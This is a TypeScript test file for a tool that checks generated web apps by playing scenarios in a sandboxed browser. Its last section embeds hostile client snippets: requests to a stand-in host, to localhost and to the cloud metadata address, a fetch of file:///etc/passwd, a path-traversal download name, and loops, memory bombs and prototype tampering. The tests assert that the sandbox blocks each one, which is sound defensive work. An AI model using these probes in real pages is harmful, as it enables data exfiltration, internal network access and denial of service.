import { createSocket } from 'node:dgram'
import { type AddressInfo, createServer } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openScratchCluster, type ScratchCluster } from '@/lib/domains/evidence/scratch/cluster'
import type { Step } from '@/lib/domains/spec/asks'
import { AskedProject, foundIn, toldOf } from '../support/behaviour'
import { checksBrowser } from '../support/checks-browser'
import { sharedHome } from '../support/shared-home'

/** What only client code does, used in Chromium: in the sandbox, as the checks have it. */

let cluster: ScratchCluster
let board: AskedProject
beforeAll(async () => {
  cluster = await openScratchCluster({ home: sharedHome() })
  board = await AskedProject.fixture('board')
})
afterAll(() => cluster?.close())

const scenario = (...steps: Step[]): { title: string; steps: Step[] }[] => [{ title: 'It is so', steps }]

const DRAGS: Step[] = [
  { do: 'visit', as: 'ana', path: '/board' },
  { do: 'fill', label: 'Title', value: 'Paint #1' },
  { do: 'press', button: 'Add' },
  { do: 'see', text: 'Paint #1', beside: 'To do' },
  { do: 'drag', item: 'Paint #1', onto: 'Done' },
  { do: 'visit', path: '/board' },
  { do: 'see', text: 'Paint #1', beside: 'Done' },
]
const LISTS: Step[] = [
  { do: 'visit', as: 'ana', path: '/list' },
  { do: 'see', text: 'Nothing yet' },
  { do: 'fill', label: 'Title', value: 'Sweep #1' },
  { do: 'press', button: 'Add' },
  { do: 'see', text: 'Sweep #1' },
  { do: 'visit', path: '/list' },
  { do: 'count', text: 'Sweep #1', is: 1 },
  { do: 'visit', as: 'ben', path: '/list' },
  { do: 'not_see', text: 'Sweep #1' },
]
const PLAYS: Step[] = [
  { do: 'visit', path: '/game' },
  { do: 'press', button: 'Count' },
  { do: 'press', button: 'Count' },
  { do: 'see', text: 'Counted 2 times' },
  ...[1, 4, 2, 5, 3].map((at): Step => ({ do: 'press', button: `Field ${at}` })),
  { do: 'see', text: 'X wins' },
]
const OPENS: Step[] = [
  { do: 'visit', as: 'ana', path: '/dialog' },
  { do: 'press', button: 'New card' },
  { do: 'press', button: 'Save' },
  { do: 'refused' },
  { do: 'fill', label: 'Title', value: 'Sand #1' },
  { do: 'press', button: 'Save' },
  { do: 'see', text: 'The card is there.' },
  { do: 'visit', path: '/dialog' },
  { do: 'see', text: 'Sand #1' },
]
const DRAWS: Step[] = [
  { do: 'visit', path: '/chart' },
  { do: 'see', text: 'July: 80 mm' },
  { do: 'order', texts: ['May', 'June', 'July'] },
]
const ASKS = [
  { items: ['field:cards.stage'], scenarios: scenario(...DRAGS) },
  { items: ['entity:cards'], scenarios: scenario(...LISTS) },
  { items: ['page:/game'], scenarios: scenario(...PLAYS) },
  { items: ['entity:cards'], scenarios: scenario(...OPENS) },
  { items: ['page:/chart'], scenarios: scenario(...DRAWS) },
]

/** A board that listens to the mouse, as libraries for dragging do, and shows where a card would fall. */
const BY_POINTER = `'use client'
import { useRef, useState } from 'react'
import { moveCard } from '../lib/actions'
type Card = { id: string; title: string; stage: string }
const STAGES = { todo: 'To do', doing: 'Doing', done: 'Done' }
export function Columns({ cards }: { cards: Card[] }) {
  const held = useRef<{ id: string; x: number; y: number; isMoved: boolean } | null>(null)
  const [over, setOver] = useState('')
  const stageAt = (x: number, y: number) =>
    document.elementsFromPoint(x, y).map((one) => (one as HTMLElement).dataset.stage).find(Boolean) ?? ''
  return (
    <div style={{ display: 'flex', gap: 16 }}
      onPointerMove={(event) => {
        if (held.current === null) return
        held.current.isMoved ||= Math.hypot(event.clientX - held.current.x, event.clientY - held.current.y) > 5
        setOver(stageAt(event.clientX, event.clientY))
      }}
      onPointerUp={(event) => {
        const card = held.current
        held.current = null
        setOver('')
        const stage = stageAt(event.clientX, event.clientY)
        if (card?.isMoved && stage !== '') void moveCard(card.id, stage)
      }}>
      {Object.entries(STAGES).map(([stage, name]) => (
        <div key={stage} className="column" style={{ width: 240, opacity: over === stage ? 0.7 : 1 }}>
          <h2>{name}</h2>
          <div data-stage={stage} style={{ minHeight: 200, border: '1px solid' }}>
            {cards.filter((card) => card.stage === stage).map((card) => (
              <article key={card.id} style={{ userSelect: 'none' }}
                onPointerDown={(event) => {
                  held.current = { id: card.id, x: event.clientX, y: event.clientY, isMoved: false }
                }}>{card.title}</article>
            ))}
          </div>
        </div>
      ))}
    </div>
  )
}`

describe('what only client code does', () => {
  test('is proven in a browser, and each of it is missed', async () => {
    const project = board.withAsks(ASKS).withBrowser(checksBrowser)
    const report = await project.verify(cluster)
    expect(foundIn(report)).toEqual([])
    expect(toldOf(report.asks)).toEqual(['a1 proven', 'a2 proven', 'a3 proven', 'a4 proven', 'a5 proven'])
    const players = report.asks?.flatMap(({ scenarios }) => scenarios.map(({ by }) => by))
    expect(players).toEqual(Array.from({ length: 5 }, () => 'browser'))
    expect(toldOf(await project.control(cluster, report.asks ?? []))).toEqual([
      'a1 proven (held)',
      'a2 proven (held)',
      'a3 proven (held)',
      'a4 proven (held)',
      'a5 proven (held)',
    ])
  })

  test('is unproven without a browser, which is said', async () => {
    const project = board.withAsks(ASKS)
    const none = [
      'a1 unproven (Dragging needs a browser. There is no browser here.)',
      'a2 unproven (What the page shows is made by components/list.tsx in a browser. There is no browser here.)',
      'a3 unproven (The button “Count” needs a browser: its page alone does not say what it does. There is no browser here.)',
      'a4 unproven (The button “New card” needs a browser: its page alone does not say what it does. There is no browser here.)',
      'a5 unproven (What the page shows is made by components/chart.tsx in a browser. There is no browser here.)',
    ]
    expect(toldOf((await project.verify(cluster)).asks)).toEqual(none)
    expect(toldOf((await project.withBrowser(() => Promise.resolve(null)).verify(cluster)).asks)).toEqual(none)
    const broken = project.withAsks(ASKS.slice(0, 1)).withBrowser(() => Promise.resolve(NO_CHROMIUM))
    const [told] = toldOf((await broken.verify(cluster)).asks)
    expect(told).toContain('a1 unproven (It was not played in a browser to its end:')
  })

  test('is dragged by the mouse as well', async () => {
    const project = board
      .with({ 'components/columns.tsx': BY_POINTER })
      .withAsks([{ scenarios: scenario(...DRAGS) }])
      .withBrowser(checksBrowser)
    const report = await project.verify(cluster)
    expect([foundIn(report), toldOf(report.asks)]).toEqual([[], ['a1 proven']])
  })

  test('fails where it only seems to be there', async () => {
    const project = board
      .replace('components/columns.tsx', 'await moveCard(id, stage)', 'void stage')
      .replace('components/ask.tsx', 'await addCard(form)', 'void form')
      .replace('components/game.tsx', 'setClicks(clicks + 1)', 'setClicks(clicks)')
      .replace('public/rain.json', '80', '8')
      .withAsks(ASKS)
      .withBrowser(checksBrowser)
    const report = await project.verify(cluster)
    expect(toldOf(report.asks)).toEqual(['a1 failed', 'a2 proven', 'a3 failed', 'a4 failed', 'a5 failed'])
    expect(foundIn(report).map((line) => line.replace(/^.*?fails in a browser at /, ''))).toEqual(
      expect.arrayContaining([
        'step 7 of 7: Ana sees “Paint #1” beside “Done”. It stands there, but not beside “Done”.',
        expect.stringMatching(/^step 4 of 10: Visitor sees “Counted 2 times”\. The page “Game” says: “Count Counted 0/),
        expect.stringMatching(/^step 9 of 9: Ana sees “Sand #1”\./),
        expect.stringMatching(/^step 2 of 3: Visitor sees “July: 80 mm”\./),
      ]),
    )
  })

  test('is unproven where what is asked is not missed', async () => {
    const project = board
      .replace('components/list.tsx', "await database().from('cards').insert({ title })", 'keep(title)')
      .replace('components/list.tsx', 'export function List', `${KEEPS}\nexport function List`)
      .replace('components/list.tsx', 'setCards(data ?? [])', 'setCards(data === null ? [] : kept())')
      .withAsks([{ items: ['entity:cards'], scenarios: scenario(...LISTS) }])
      .withBrowser(checksBrowser)
    const report = await project.verify(cluster)
    expect(toldOf(report.asks)).toEqual(['a1 proven'])
    expect(toldOf(await project.control(cluster, report.asks ?? []))).toEqual([
      'a1 unproven (It also passes without the rows of cards.)',
    ])
  })
})

test('uses what pages draw themselves, and files', async () => {
  const project = board
    .with({
      'app/drawn/page.tsx': DRAWN,
      'app/save/route.ts': `export async function POST(request: Request) {
        const file = (await request.formData()).get('file') as File
        return Response.json({ says: file.name + ' of ' + file.size })
      }`,
      'app/export/route.ts': `export const GET = () => new Response('title;stage', {
        headers: { 'content-type': 'text/csv', 'content-disposition': 'attachment; filename="cards.csv"' } })`,
    })
    .withAsks([
      {
        scenarios: scenario(
          { do: 'visit', path: '/drawn' },
          { do: 'choose', label: 'Colour', option: 'Green' },
          { do: 'see', text: 'Colour is Green' },
          { do: 'tick', label: 'Loud' },
          { do: 'see', text: 'It is loud' },
          { do: 'tick', label: 'Loud', on: false },
          { do: 'see', text: 'It is quiet' },
          { do: 'fill', label: 'Story', value: 'Once #1' },
          { do: 'see', text: 'Story of 1 words beginning with Once' },
          { do: 'press', button: 'Later' },
          { do: 'wait', until: 'Now it is later' },
          { do: 'press', button: 'Leave' },
          { do: 'see', text: 'Really leave?' },
          { do: 'see', text: 'Left' },
        ),
      },
      {
        scenarios: scenario(
          { do: 'visit', path: '/drawn' },
          { do: 'upload', label: 'Picture', file: 'cat.png' },
          { do: 'see', text: 'cat.png of' },
        ),
      },
      {
        scenarios: scenario(
          { do: 'visit', path: '/drawn' },
          { do: 'download', from: 'Save as CSV', text: 'made in the browser' },
          { do: 'press', button: 'Export' },
          { do: 'download', from: 'All cards', text: 'title;stage' },
          { do: 'see', text: 'Drawn' },
        ),
      },
    ])
    .withBrowser(checksBrowser)
  const report = await project.verify(cluster)
  expect([foundIn(report), toldOf(report.asks)]).toEqual([[], ['a1 proven', 'a2 proven', 'a3 proven']])
})

const DRAWN = `'use client'
  import { useState } from 'react'
  export default function Page() {
    const [colour, setColour] = useState('')
    const [isOpen, setOpen] = useState(false)
    const [isLoud, setLoud] = useState(false)
    const [story, setStory] = useState('')
    const [said, setSaid] = useState('')
    const [hasExport, setExport] = useState(false)
    const words = story.split(' ').filter(Boolean)
    return <main><h1>Drawn</h1>
      <span id="colour">Colour</span>
      <button role="combobox" aria-labelledby="colour" aria-expanded={isOpen} onClick={() => setOpen(!isOpen)}>
        {colour || 'None'}</button>
      {isOpen && <div role="listbox">{['Red', 'Green'].map((one) => <div key={one} role="option" aria-selected={one === colour}
        onClick={() => { setColour(one); setOpen(false) }}>{one}</div>)}</div>}
      <p>Colour is {colour}</p>
      <button role="switch" aria-checked={isLoud} onClick={() => setLoud(!isLoud)}>Loud</button>
      <p>It is {isLoud ? 'loud' : 'quiet'}</p>
      <div role="textbox" aria-label="Story" contentEditable suppressContentEditableWarning
        onInput={(event) => setStory(event.currentTarget.textContent ?? '')} />
      <p>Story of {words.length - 1} words beginning with {words[0]}</p>
      <button onClick={() => setTimeout(() => setSaid('Now it is later'), 1_500)}>Later</button>
      <button onClick={() => { if (confirm('Really leave?')) setSaid('Left') }}>Leave</button>
      <label>Picture <input type="file" onChange={(event) => {
        const body = new FormData()
        body.set('file', event.target.files![0]!)
        void fetch('/save', { method: 'POST', body }).then((answer) => answer.json()).then(({ says }) => setSaid(says))
      }} /></label>
      <button onClick={() => {
        const link = document.createElement('a')
        link.href = URL.createObjectURL(new Blob(['made in the browser'], { type: 'text/csv' }))
        link.download = 'cards.csv'
        link.click()
      }}>Save as CSV</button>
      <button onClick={() => setExport(true)}>Export</button>
      {hasExport && <a href="/export">All cards</a>}
      <p>{said}</p></main>
  }`

test('uses what the packages of projects draw', async () => {
  const project = board.with({ 'app/parts/page.tsx': PARTS }).withBrowser(checksBrowser)
  const report = await project
    .with({
      'package.json': project
        .text('package.json')
        .replace(
          '"react":',
          '"motion": "14.14.0", "radix-ui": "1.8.1", "recharts": "3.10.1", "sonner": "2.0.8", "react":',
        ),
    })
    .withAsks([
      {
        scenarios: scenario(
          { do: 'visit', path: '/parts' },
          { do: 'press', button: 'New visit' },
          { do: 'fill', label: 'Who', value: 'Emma #1' },
          { do: 'choose', label: 'Room', option: 'Attic' },
          { do: 'tick', label: 'With a dog' },
          { do: 'press', button: 'Keep' },
          { do: 'see', text: 'Kept Emma #1 in Attic with a dog' },
          { do: 'not_see', text: 'New visit of a guest' },
        ),
      },
      {
        scenarios: scenario(
          { do: 'visit', path: '/parts' },
          { do: 'not_see', text: 'Second part' },
          { do: 'press', button: 'More' },
          { do: 'see', text: 'Second part' },
        ),
      },
      {
        scenarios: scenario({ do: 'visit', path: '/parts' }, { do: 'order', texts: ['January', 'February', 'March'] }),
      },
    ])
    .verify(cluster)
  expect([foundIn(report), toldOf(report.asks)]).toEqual([[], ['a1 proven', 'a2 proven', 'a3 proven']])
})

const PARTS = `'use client'
  import { motion } from 'motion/react'
  import { Checkbox, Dialog, Select, Tabs } from 'radix-ui'
  import { useState } from 'react'
  import { Bar, BarChart, ResponsiveContainer, XAxis } from 'recharts'
  import { toast, Toaster } from 'sonner'
  const DATA = [{ month: 'January', guests: 3 }, { month: 'February', guests: 5 }, { month: 'March', guests: 2 }]
  export default function Page() {
    const [isOpen, setOpen] = useState(false)
    const [room, setRoom] = useState('')
    const [hasDog, setDog] = useState(false)
    return <div><h1>Visits</h1><Toaster />
      <Dialog.Root open={isOpen} onOpenChange={setOpen}>
        <Dialog.Trigger>New visit</Dialog.Trigger>
        <Dialog.Portal><Dialog.Overlay style={{ position: 'fixed', inset: 0, background: '#0008' }} />
          <Dialog.Content style={{ position: 'fixed', top: 50, left: 50, background: 'white' }}>
            <Dialog.Title>New visit of a guest</Dialog.Title><Dialog.Description>Who comes</Dialog.Description>
            <motion.form initial={{ opacity: 0, y: 20 }} animate={{ opacity: 1, y: 0 }} onSubmit={(event) => {
              event.preventDefault()
              const who = new FormData(event.currentTarget).get('who')
              setOpen(false)
              toast('Kept ' + who + ' in ' + room + (hasDog ? ' with a dog' : ''))
            }}>
              <label>Who <input name="who" required /></label>
              <label id="room">Room</label>
              <Select.Root value={room} onValueChange={setRoom}>
                <Select.Trigger aria-labelledby="room"><Select.Value placeholder="Any" /></Select.Trigger>
                <Select.Portal><Select.Content><Select.Viewport>
                  {['Attic', 'Garden'].map((one) => <Select.Item key={one} value={one}>
                    <Select.ItemText>{one}</Select.ItemText></Select.Item>)}
                </Select.Viewport></Select.Content></Select.Portal>
              </Select.Root>
              <label htmlFor="dog">With a dog</label>
              <Checkbox.Root id="dog" checked={hasDog} onCheckedChange={(is) => setDog(is === true)}
                style={{ width: 20, height: 20 }} />
              <button>Keep</button>
            </motion.form>
          </Dialog.Content></Dialog.Portal>
      </Dialog.Root>
      <Tabs.Root defaultValue="one">
        <Tabs.List><Tabs.Trigger value="one">Less</Tabs.Trigger><Tabs.Trigger value="two">More</Tabs.Trigger></Tabs.List>
        <Tabs.Content value="one">First part</Tabs.Content><Tabs.Content value="two">Second part</Tabs.Content>
      </Tabs.Root>
      <div style={{ width: 500, height: 200 }}>
        <ResponsiveContainer><BarChart data={DATA}><XAxis dataKey="month" /><Bar dataKey="guests" /></BarChart></ResponsiveContainer>
      </div></div>
  }`

test('a plain site is played as well, with its controls', async () => {
  const page = `<!doctype html><html lang="en"><head><title>Shop</title><link rel="stylesheet" href="style.css"></head>
    <body><main><h1>Shop</h1><ul id="list"></ul><button id="more">More</button><p id="count"></p>
    <p class="gone">Never seen</p></main><script type="module" src="js/app.mjs"></script></body></html>`
  const project = AskedProject.ofBytes(new Map())
    .with({
      'index.html': page,
      'style.css': '.gone { display: none }',
      'js/app.mjs': `import { names } from './names.mjs'
        document.querySelector('#list').innerHTML = names.map((name) => '<li>' + name + '</li>').join('')
        let count = 0
        document.querySelector('#more').addEventListener('click', () => {
          document.querySelector('#count').textContent = 'Asked ' + ++count + ' times'
        })`,
      'js/names.mjs': "export const names = ['Bread', 'Salt']",
      'devora.json': '{"devora":1,"name":"Shop","mode":"site","locale":"en"}',
    })
    .withAsks([
      {
        scenarios: scenario(
          { do: 'visit', path: '/' },
          { do: 'order', texts: ['Bread', 'Salt'] },
          { do: 'press', button: 'More' },
          { do: 'press', button: 'More' },
          { do: 'see', text: 'Asked 2 times' },
        ),
      },
      { scenarios: scenario({ do: 'visit', path: '/' }, { do: 'see', text: 'Salt' }, { do: 'see', text: 'Pepper' }) },
    ])
    .withBrowser(checksBrowser)
  const report = await project.verify(cluster)
  expect(toldOf(report.asks)).toEqual(['a1 proven', 'a2 failed'])
  expect(foundIn(report).join()).toContain('sees “Pepper”. The page “Shop” says: “Bread Salt More”')
  expect(toldOf(await project.control(cluster, report.asks ?? []))).toEqual(['a1 proven (held)', 'a2 failed'])
})

const NO_CHROMIUM = { executable: '/usr/bin/false', shown: [] }

/** Keeps what was written in the browser of whoever wrote it. */
const KEEPS = `
const kept = (): Card[] => JSON.parse(localStorage.getItem('cards') ?? '[]')
const keep = (title: string) => localStorage.setItem('cards', JSON.stringify([...kept(), { id: title, title }]))`

const HOST = 'http://stranger.example'

/** Client code that wants out, or to go on for ever; what it got it writes on its page. */
const hostile = (port: number): Readonly<Record<string, string>> => ({
  asks: `const said: string[] = []
    const say = (text: string) => {
      said.push(text)
      setSaid([...said])
    }
    const tell = (name: string, work: Promise<unknown>) =>
      work.then(() => say(name + ' went out'), () => say(name + ' was refused'))
    tell('host', fetch('${HOST}/fetch'))
    tell('opaque', fetch('${HOST}/opaque', { method: 'POST', mode: 'no-cors', body: 'x' }))
    tell('secure', fetch('https://stranger.example/'))
    tell('machine', fetch('http://127.0.0.1:${port}/', { mode: 'no-cors' }))
    tell('metadata', fetch('http://169.254.169.254/', { mode: 'no-cors' }))
    tell('file', fetch('file:///etc/passwd'))
    tell('socket', new Promise((yes, no) => {
      const socket = new WebSocket('ws://127.0.0.1:${port}/')
      socket.onopen = yes
      socket.onclose = no
    }))
    void navigator.serviceWorker.register('/worker.js').catch(() => undefined)
    navigator.sendBeacon('http://127.0.0.1:${port}/beacon', 'x')
    const peer = new RTCPeerConnection({ iceServers: [{ urls: ['stun:127.0.0.1:${port}', 'stun:192.0.2.1:3478'] },
      { urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'a', credential: 'b' }] })
    peer.createDataChannel('x')
    peer.onicecandidate = ({ candidate }) => {
      if (/srflx|relay/.test(candidate?.candidate ?? '')) tell('peer', Promise.resolve())
    }
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer))`,
  windows: `window.open('${HOST}/window')
    alert('Hello from an alert')
    confirm('Really?')
    addEventListener('beforeunload', (event) => event.preventDefault())
    const link = document.createElement('a')
    link.href = URL.createObjectURL(new Blob(['x']))
    link.download = '../../etc/passwd'
    document.body.append(link)
    link.click()
    setSaid(['all tried'])`,
  leaves: `location.href = '${HOST}/away'`,
  loops: 'for (;;) ;',
  alerts: "for (;;) alert('Again')",
  grows: 'const all: unknown[] = []; for (;;) all.push(new Uint8Array(50_000_000).fill(1))',
  floods: "for (let at = 0; at < 2_000; at++) void fetch('/rain.json?' + at); setSaid(['all asked'])",
  draws: `const more = () => {
      for (let at = 0; at < 2_000; at++) document.body.append(document.createElement('hr'))
      requestAnimationFrame(more)
    }
    more()`,
  lies: `Element.prototype.getAttribute = () => 'x'
    String.prototype.replaceAll = () => 'Sold out'
    Array.prototype.join = () => 'Sold out'
    JSON.stringify = () => 'Sold out'
    document.querySelector = () => null
    setSaid(['nothing'])`,
})

const hostilePage = (code: string): string => `'use client'
  import { useState } from 'react'
  export default function Page() {
    const [said, setSaid] = useState<string[]>([])
    return <main><h1>Hostile</h1><button onClick={() => { ${code} }}>Try</button>
      <ul>{said.map((one) => <li key={one}>{one}</li>)}</ul></main>
  }`

describe('hostile client code', () => {
  /** Whatever reaches this machine is counted. */
  let reached = 0
  let port = 0
  const server = createServer((socket) => {
    reached++
    socket.destroy()
  })
  const datagrams = createSocket('udp4')
  let project: AskedProject
  beforeAll(async () => {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    port = (server.address() as AddressInfo).port
    datagrams.on('message', () => reached++)
    await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve))
    const pages = Object.entries(hostile(port)).map(([name, code]) => [`app/${name}/page.tsx`, hostilePage(code)])
    project = board.with(Object.fromEntries(pages)).withBrowser(checksBrowser)
  })
  afterAll(() => {
    server.close()
    datagrams.close()
  })

  const tries = (name: string, ...then: Step[]): { scenarios: ReturnType<typeof scenario> } => ({
    scenarios: scenario({ do: 'visit', path: `/${name}` }, { do: 'press', button: 'Try' }, ...then),
  })
  const ordinary = { scenarios: scenario(...PLAYS) }

  test('reaches nobody', async () => {
    const refused = ['host', 'opaque', 'secure', 'machine', 'metadata', 'file', 'socket']
    const asks = [
      tries('asks', ...refused.map((name): Step => ({ do: 'see', text: `${name} was refused` })), {
        do: 'not_see',
        text: 'went out',
      }),
      tries('windows', { do: 'see', text: 'all tried' }, { do: 'see', text: 'Hello from an alert' }),
      tries('leaves', { do: 'see', text: 'x' }),
      tries('lies', { do: 'not_see', text: 'Sold out' }, { do: 'see', text: 'nothing' }),
      ordinary,
    ]
    const report = await project.withAsks(asks).verify(cluster)
    expect(foundIn(report)).toEqual([])
    expect(toldOf(report.asks)).toEqual([
      'a1 proven',
      'a2 proven',
      'a3 unproven (It leads to another site, stranger.example.)',
      'a4 proven',
      'a5 proven',
    ])
  })

  test.each([
    ['loops', /did not answer in time/],
    ['alerts', /did not answer in time/],
    ['grows', /took more memory than they may|did not answer in time|ended/],
    ['floods', /./],
    ['draws', /too large to be read|did not answer in time|took more memory/],
  ])('ends within bounds when it %s, and others are played after it', async (name, why) => {
    const asks = [tries(name, { do: 'see', text: name === 'floods' ? 'all asked' : 'x' }), ordinary]
    const report = await project.withAsks(asks).verify(cluster)
    expect(foundIn(report)).toEqual([])
    const [first, second] = report.asks ?? []
    expect(first?.why ?? first?.status).toMatch(why)
    expect(second?.status).toBe('proven')
  })

  test('has reached nothing of this machine', () => {
    expect(reached).toBe(0)
  })
})
